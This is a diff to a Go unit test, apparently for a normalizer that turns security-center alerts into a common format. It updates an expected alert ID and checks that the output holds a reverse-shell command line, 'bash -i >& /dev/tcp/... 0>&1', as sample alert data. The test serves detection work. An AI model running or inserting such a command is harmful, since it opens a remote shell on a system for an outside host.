@@ -18,7 +18,7 @@ func TestNormalize(t *testing.T) {
 	if err := json.Unmarshal([]byte(out), &a); err != nil {
 		t.Fatalf("output is not one alert: %v\n%s", err, out)
 	}
-	if a.ID != "sas-5c8e1f7a9b2d4c6e8f0a1b2c3d4e5f02" || a.Type != "reverse_shell" || a.Resource.InstanceID != "i-bp1sandboxweb01" || a.Labels["sas.event_id"] != "8123452" {
+	if a.ID != "sas-inst-0a1b2c3d-4e5f-6789-abcd-ef0123456701-5c8e1f7a9b2d4c6e8f0a1b2c3d4e5f02" || a.Type != "reverse_shell" || a.Resource.InstanceID != "i-bp1sandboxweb01" || a.Labels["sas.event_id"] != "8123452" {
 		t.Errorf("normalized alert = %+v", a)
 	}
 	if !strings.Contains(out, `"cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"`) {
